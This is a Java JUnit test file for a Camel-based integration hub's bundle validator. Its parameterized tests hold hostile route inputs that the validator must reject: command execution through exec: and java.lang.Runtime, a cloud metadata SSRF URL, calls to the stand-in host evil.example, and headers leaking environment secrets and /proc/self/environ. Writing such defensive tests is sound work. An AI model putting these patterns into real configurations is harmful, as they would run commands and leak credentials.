package cn.tongban.hub.flow;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import cn.tongban.hub.mapping.BundleFiles;
import cn.tongban.hub.support.ErrorCode;
import cn.tongban.hub.support.HubException;
import cn.tongban.hub.support.Place;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class BundleContextTest {
    private static final String ROUTE = "routes/out/out.notify.camel.yaml";
    private static final String KAMELET = "connectors/desk/desk-step-sink.kamelet.yaml";
    private static final String SIGNED = "scheme: hmac-sm3, secret: callback-key, sender: tongban-hub";

    private final Bundles bundles = new Bundles();

    @Test
    void startsTheBundleWithItsDoorsAndDeliveries() {
        BundleContext bundle = bundles.start();

        assertThat(bundle.deliveries().destinations()).containsExactly("desk", "office");
        assertThat(bundle.deliveries().carrying("office", "case.submitted")).isPresent();
        assertThat(bundle.deliveries().carrying("office", "case.withdrawn")).isEmpty();
        assertThat(bundle.deliveries().carrying("desk", "case.anything")).isPresent();
        assertThat(bundle.doors().find("GET", "/in/desk/cases/P-1").parameters()).containsEntry("caseNo", "P-1");
        assertThat(bundle.retire()).isTrue();
    }

    @Test
    void startsTheBundleOfTheProduct() {
        bundles.environment.put("HUB_SECRET_CITY_PLATFORM_SIGN_KEY", "a");
        bundles.environment.put("HUB_SECRET_CITY_PLATFORM_DOOR_KEY", "b");
        bundles.environment.put("HUB_SECRET_CITY_WINDOW_DOOR_KEY", "c");
        bundles.environment.put("HUB_SECRET_CITY_WINDOW_CALLBACK_KEY", "d");
        bundles.environment.put("HUB_SECRET_DISTRICT_PLATFORM_SIGN_KEY", "e");
        bundles.environment.put("HUB_SECRET_PROVINCE_CATALOGUE_SIGN_KEY", "f");
        bundles.environment.put("HUB_SECRET_DISTRICT_PLATFORM_EXCHANGE_PASSWORD", "f");
        bundles.environment.put("HUB_SECRET_DEPARTMENT_MARKET_BUREAU_PASSWORD", "g");
        bundles.environment.put("HUB_SECRET_DEPARTMENT_CONSTRUCTION_BUREAU_PASSWORD", "h");
        bundles.environment.put("HUB_SECRET_POSTAL_EMS_SIGN_KEY", "VGVzdEtleS0xNmJ5dGVzIQ==");
        bundles.environment.put("HUB_SECRET_POSTAL_EMS_AUTHORIZATION", "i");
        bundles.environment.put("HUB_SECRET_PROVINCE_PLATFORM_SYS_PASSWORD", "j");
        bundles.environment.put("HUB_SECRET_PROVINCE_PLATFORM_DOOR_PASSWORD", "k");
        bundles.environment.put("HUB_SECRET_PROVINCE_ARCHIVE_APP_WORD", "l");

        BundleContext bundle =
                BundleContext.start(bundles.read(BundleFiles.fromDirectory(Path.of("."))), bundles.ports());

        assertThat(bundle.deliveries().destinations()).containsExactly(
                "city-platform", "city-window", "department", "department.events", "district-platform", "postal-ems",
                "province-archive", "province-platform");
        assertThat(bundle.deliveries().asking("city-platform")).isPresent();
        assertThat(Promises.policies(bundle.bundle())).hasSize(10);
        assertThat(bundle.retire()).isTrue();
    }

    @Test
    void aPolicyThatIsNotThereStopsTheBundle() {
        HubException refused = refusal(ROUTE, "routeConfigurationId: policy.deliver", "routeConfigurationId: policy.delivr");

        assertThat(refused.places()).contains(
                new Place("route:out.notify", "policy", "there is no routeConfiguration policy.delivr"));
    }

    @Test
    void aPolicyIsAppliedAlthoughItsFileComesLast() {
        String policies = bundles.text("routes/policies/errors.camel.yaml");
        BundleContext bundle = bundles.file("routes/policies/errors.camel.yaml", "[]")
                .file("routes/policies/zzz.camel.yaml", policies)
                .start();

        assertThat(bundle.retire()).isTrue();
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
        "{uri: \"file:/tmp/out\"}|component file",
        "{uri: \"bean:java.lang.Runtime?method=getRuntime\"}|component bean",
        "{uri: \"class:java.lang.Runtime\"}|component class",
        "{uri: \"exec:id\"}|component exec",
        "{uri: \"log:x\"}|component log",
        "{uri: \"direct:x\"}|component direct",
        "{uri: \"language:simple:x\"}|component language",
        "{uri: \"http://169.254.169.254/latest/meta-data\"}|none of a connector's settings",
        "{uri: \"http://127.0.0.1:9/other\"}|none of a connector's settings",
        "{uri: \"{{desk.base-url}}/../secret\"}|none of a connector's settings",
        "{uri: \"{{desk.base-url}}-two/x\"}|none of a connector's settings",
        "{uri: \"http://127.0.0.1:9@evil.example/desk\"}|none of a connector's settings",
        "{uri: \"https://127.0.0.1:9/desk\"}|none of a connector's settings",
        "{uri: \"http://{host}/desk\"}|not an http address",
        "{uri: \"{{desk.base-url}}/x?a=b\"}|a",
        "{uri: \"{{env:HUB_SECRET_DESK_DOOR_KEY}}\"}|not for bundles",
        "{uri: \"{{sys:user.home}}\"}|not for bundles",
        "{uri: \"http://{{HOME}}/\"}|HOME",
        "{uri: \"http://{{desk.callback-key}}/\"}|desk.callback-key",
        "{uri: \"hub:map/desk/none\"}|there is no mapping",
        "{uri: \"hub:validate/desk/none\"}|there is no contract",
        "{uri: \"hub:verify/none\"}|there is no connector",
        "{uri: \"hub:explode\"}|there is no verb",
        "{uri: \"hub:fail\", parameters: {x: y}}|unknown options",
        "{uri: \"kamelet:none-sink\"}|none-sink",
    })
    void aCallThatLeadsOutOfTheBundleStopsIt(String to, String reason) {
        HubException refused = refusal(ROUTE, "- to: {uri: \"kamelet:desk-step-sink\"}", "- to: " + to);

        assertThat(refused.code()).isEqualTo(ErrorCode.BUNDLE_INVALID);
        assertThat(refused.getMessage()).contains(reason);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "toD: {uri: \"http://${header.host}/\"}",
        "bean: {beanType: java.lang.Runtime, method: getRuntime}",
        "process: {ref: anything}",
        "script: {simple: \"${body}\"}",
        "log: {message: \"${body}\"}",
        "wireTap: {uri: \"kamelet:desk-step-sink\"}",
        "recipientList: {constant: \"http://evil.example\"}",
        "setHeader: {name: CamelHttpUri, constant: \"http://evil.example\"}",
        "setHeader: {name: CAmelHttpUri, constant: \"http://evil.example\"}",
        "setVariable: {name: hub.deliveryId, constant: \"00000000-0000-0000-0000-000000000000\"}",
        "setHeader: {name: X-Leak, simple: \"${env.HUB_SECRET_DESK_DOOR_KEY}\"}",
        "setHeader: {name: X-Leak, simple: \"${sys.user.home}\"}",
        "setHeader: {name: X-Leak, constant: \"resource:file:/proc/self/environ\"}",
        "setHeader: {name: X-Leak, simple: \"resource:classpath:application.yaml\"}",
        "setHeader: {name: X-Leak, simple: \"${bean:type:java.lang.Runtime?method=getRuntime}\"}",
        "setHeader: {name: X-Leak, simple: \"${body.getClass}\"}",
        "setHeader: {name: X-Leak, simple: \"${camelContext.stop}\"}",
        "setBody: {jsonpath: \"$.x\"}",
        "doTry: {steps: [], doCatch: []}",
    })
    void aStepThatIsNotAllowedStopsTheBundle(String step) {
        HubException refused = refusal(ROUTE, "- to: {uri: \"kamelet:desk-step-sink\"}", "- " + step);

        assertThat(refused.code()).isEqualTo(ErrorCode.BUNDLE_INVALID);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "- beans: [{name: b, type: java.util.ArrayList}]",
        "- onException: {exception: [java.lang.Exception], steps: []}",
        "- rest: {get: [{path: /x, to: \"direct:x\"}]}",
        "route: {}",
    })
    void aRouteFileHoldsNothingButRoutes(String yaml) {
        bundles.file("routes/out/out.other.camel.yaml", yaml);

        HubException refused = catchThrowableOfType(HubException.class, bundles::start);
        assertThat(refused.places()).extracting(Place::rule).containsExactly("kind");
    }

    @Test
    void twoRoutesForOneDoorOrOneDeliveryStopTheBundle() {
        String door = bundles.text("routes/in/in.record.camel.yaml").replace("in.record", "in.second");
        String delivery = bundles.text(ROUTE).replace("out.notify", "out.second").replace("\"*\"", "\"a,*\"");

        assertThat(refusal("routes/in/in.second.camel.yaml", door).getMessage()).contains("in.second", "/in/desk/cases");
        bundles.overlay.clear();
        assertThat(refusal("routes/out/out.second.camel.yaml", delivery).getMessage()).contains("two routes");
    }

    @Test
    void aDoorNeedsAConnectorWithADoor() {
        HubException refused = refusal("routes/in/in.query.camel.yaml", "/in/desk/", "/in/office/");

        assertThat(refused.getMessage()).contains("office");
    }

    @Test
    void aKameletMaySignOnlyWithASecretOfItsConnector() {
        assertThat(refusal(KAMELET, SIGNED, SIGNED.replace("callback-key", "none")).getMessage())
                .contains("there is no secret desk.none");
        bundles.overlay.clear();
        assertThat(refusal(KAMELET, "scheme: hmac-sm3", "scheme: plain").getMessage()).contains("scheme is");
    }

    private HubException refusal(String path, String text) {
        bundles.file(path, text);
        return catchThrowableOfType(HubException.class, bundles::start);
    }

    private HubException refusal(String path, String right, String wrong) {
        String text = bundles.text(path);
        assertThat(text).contains(right);
        return refusal(path, text.replace(right, wrong));
    }
}
